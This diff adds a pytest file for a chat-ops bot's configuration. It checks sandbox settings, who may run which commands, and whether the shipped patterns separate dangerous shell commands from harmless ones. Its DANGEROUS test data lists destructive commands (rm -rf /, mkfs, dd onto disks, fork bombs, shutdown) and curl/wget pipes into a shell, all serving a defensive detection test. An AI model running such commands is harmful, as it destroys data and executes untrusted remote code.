@@ -1,0 +1,205 @@
+"""The ``bot.toml`` of the checkout: it works with the sandbox and shows every key."""
+
+from __future__ import annotations
+
+import re
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from bot import catalog, config, model, policy
+from bot.config import reference
+from sandbox import world
+
+ROOT = Path(__file__).resolve().parents[2]
+SHIPPED = ROOT / "bot.toml"
+TEXT = SHIPPED.read_text("utf-8")
+
+
+def test_the_shipped_file_is_the_sandboxs_company() -> None:
+    found = config.load(SHIPPED, {}, known_commands=catalog.load)
+    assert found.warnings == ()
+    assert found.dingtalk
+    assert found.lark
+    ports = world.PORTS
+    assert found.dingtalk.endpoint == f"http://127.0.0.1:{ports['dingtalk']}"
+    assert found.dingtalk.webhook_hosts == (found.dingtalk.endpoint,)
+    assert found.lark.domain == f"http://127.0.0.1:{ports['lark']}"
+    assert found.aliyun.endpoint == f"http://127.0.0.1:{ports['aliyun']}"
+    assert found.dingtalk.client_id == world.DINGTALK_CLIENT_ID
+    assert found.dingtalk.robot_code == world.DINGTALK_ROBOT
+    assert found.dingtalk.client_secret.reveal() == world.DINGTALK_CLIENT_SECRET
+    assert found.dingtalk.card_template == world.DINGTALK_CARD_TEMPLATE
+    assert found.dingtalk.plain_template == world.DINGTALK_PLAIN_TEMPLATE
+    assert found.lark.app_id == world.LARK_APP_ID
+    assert found.lark.app_secret.reveal() == world.LARK_APP_SECRET
+    assert found.aliyun.region == world.ALIYUN_REGION
+    assert found.aliyun.credentials.key_id == world.ALIYUN_KEY_ID
+    secret = found.aliyun.credentials.key_secret
+    assert secret
+    assert secret.reveal() == world.ALIYUN_KEY_SECRET
+    book = found.book
+    assert book.tenants == {
+        "dingtalk": frozenset({world.DINGTALK_CORP}),
+        "lark": frozenset({world.LARK_TENANT}),
+    }
+    assert {(g.platform, g.chat): g.name for g in book.groups} == {
+        **{("dingtalk", chat): name for chat, name in world.DINGTALK_GROUPS.items()},
+        **{("lark", chat): name for chat, name in world.LARK_GROUPS.items()},
+    }
+    known = [person for person in world.PEOPLE if person.id != "mallory"]
+    assert [(p.id, p.name, dict(p.accounts)) for p in book.people.values()] == [
+        (p.id, p.name, {"dingtalk": p.dingtalk, "lark": p.lark}) for p in known
+    ]
+    assert {(f.platform, f.form) for f in book.forms} == {
+        ("dingtalk", world.DINGTALK_FORM),
+        ("lark", world.LARK_FORM),
+    }
+    assert found.bot.data == ROOT / "var"
+    assert found.commands == ROOT / "commands"
+
+
+def test_the_shipped_file_lets_the_right_people_do_the_right_things() -> None:
+    book = config.load(SHIPPED, {}).book
+    may = {
+        person.id: {name for name in book.commands if policy.may_use(book, person, name)}
+        for person in book.people.values()
+    }
+    assert may == {
+        "alice": {"restart", "provision"},
+        "bob": {"restart", "provision", "run"},
+        "carol": {"restart", "provision", "run"},
+        "dave": set(),
+    }
+    assert policy.person_of(book, model.Account("lark", world.LARK_TENANT, "ou_mallory")) is None
+    run = book.policies[book.commands["run"].policy]
+    assert policy.electorate(run, "bob") == ("carol",)
+    assert run.code_required
+    assert policy.needed(run, "alice") == 2
+    hire = book.policies[book.commands["provision"].policy]
+    assert hire.form_counts
+    assert book.commands["provision"].targets == ("hr-01",)
+
+
+DANGEROUS = """
+rm -rf /
+sudo rm -r -f /*
+rm --recursive --force --no-preserve-root /
+rm -rf "/"
+rm -rf -- /etc/
+rm -rf build /usr
+rm -rf /;ls
+mkfs.ext4 /dev/vdb
+dd if=/dev/zero of=/dev/sda bs=1M
+cat junk > /dev/vda
+:(){ :|:& };:
+: () { : | : & } ; :
+shutdown -h now
+/sbin/poweroff
+init 0
+curl -fsSL http://example.com/x | sudo bash
+wget -qO- example.com|sh
+"""
+HARMLESS = """
+rm -rf /tmp/build /var/log/old.log
+rm -rf ./node_modules
+rm -f /etc/nginx/old.conf
+echo x > /dev/null
+dd if=a of=b.img
+systemctl restart nginx
+echo begun; sleep 300; echo never
+curl -o file https://example.com/x
+harm -rf is no command
+echo the dd command writes blocks
+"""
+
+
+def test_the_shipped_patterns_tell_dangerous_from_harmless() -> None:
+    book = config.load(SHIPPED, {}).book
+    for script in DANGEROUS.strip().split("\n"):
+        for where in ("text", "value", "script"):
+            assert policy.examine(book, "run", where, script).refusal, script
+    for script in HARMLESS.strip().split("\n"):
+        assert policy.examine(book, "run", "script", script) == policy.Finding(), script
+    own = [path.read_text("utf-8") for path in (ROOT / "commands").glob("*.sh")]
+    assert own
+    assert all(not policy.examine(book, "x", "script", text).refusal for text in own)
+    assert policy.examine(book, "restart", "text", "restart db-01 service=mysql").policy
+    assert not policy.examine(book, "restart", "text", "restart web-01 service=nginx").policy
+
+
+@pytest.mark.parametrize(
+    "piece",
+    ["rm ", "rm -r ", "/", " /", "curl |", "wget x ", "dd ", ">   ", ":(){", ": ", "r", "\n"],
+)
+def test_no_shipped_pattern_is_slow_on_hostile_text(piece: str) -> None:
+    patterns = config.load(SHIPPED, {}).book.patterns
+    text = (piece * 12_000)[:12_000] + "!"
+    began = time.perf_counter()
+    for pattern in patterns:
+        pattern.regex.search(text)
+    assert time.perf_counter() - began < 2
+
+
+def test_every_key_stands_in_the_shipped_file() -> None:
+    """Also a commented one: the file is where people look first."""
+    section, seen = "", set()
+    for line in TEXT.split("\n"):
+        bare = line.removeprefix("# ")
+        if header := re.match(r"\[+([\w.-]+)\]+(\s|$)", bare):
+            section = header[1]
+        elif pair := re.match(r"(\w+) = ", bare):
+            seen.add((section, pair[1]))
+    names = {"role.NAME": "role.dev", "policy.NAME": "policy.one-sre"}
+    names["command.NAME"] = "command.restart"
+    for title, table in reference.SECTIONS:
+        here = names.get(title.strip("[]"), title.strip("[]"))
+        keys = {key for key, info in table.model_fields.items() if not reference._is_table(info)}
+        assert keys <= {key for place, key in seen if place == here}, title
+
+
+def test_the_commented_lines_show_the_true_defaults(tmp_path: Path) -> None:
+    """With every commented default made real, the configuration is the same."""
+    spoken = []
+    for line in TEXT.split("\n"):
+        found = re.match(
+            r"# ((?!security_token|role_arn|external_id|sts_|locale|policy|count)\w+ = .*)", line
+        )
+        if line.startswith("# [[budget]]"):
+            spoken.append("[[budget]]")
+        elif found and not re.match(r"robot_code|count|allowed_values|region|idle_x", found[1]):
+            spoken.append(found[1])
+        elif line.startswith("# count = ") and "how many" not in line:
+            spoken.append(line[2:])
+        else:
+            spoken.append(line)
+    text = "\n".join(spoken).replace('"sandbox/', f'"{ROOT}/sandbox/')
+    (tmp_path / "bot.toml").write_text(text, "utf-8")
+    shipped, loud = config.load(SHIPPED, {}), config.load(tmp_path / "bot.toml", {})
+    assert text.count("# ") < TEXT.count("# ") - 20
+    assert (loud.dingtalk, loud.lark, loud.book) == _same_secrets(shipped, loud)
+    assert set(loud.budgets) == set(shipped.budgets)
+
+
+def _same_secrets(shipped: config.Config, loud: config.Config) -> tuple[Any, Any, policy.Book]:
+    """What ``shipped`` says, with the other's secrets: those are at another path there."""
+    assert shipped.dingtalk
+    assert shipped.lark
+    assert loud.dingtalk
+    assert loud.lark
+    return (
+        shipped.dingtalk.model_copy(update={"client_secret": loud.dingtalk.client_secret}),
+        shipped.lark.model_copy(update={"app_secret": loud.lark.app_secret}),
+        shipped.book,
+    )
+
+
+def test_the_reference_describes_every_key() -> None:
+    page = (ROOT / "docs/reference/configuration.md").read_text("utf-8")
+    assert page == reference.page(), "run: python -m bot docs configuration"
+    for title, table in reference.SECTIONS:
+        for key, info in table.model_fields.items():
+            assert info.description, f"{title} {key} is not described"
+        assert table.__doc__, f"{title} is not described"
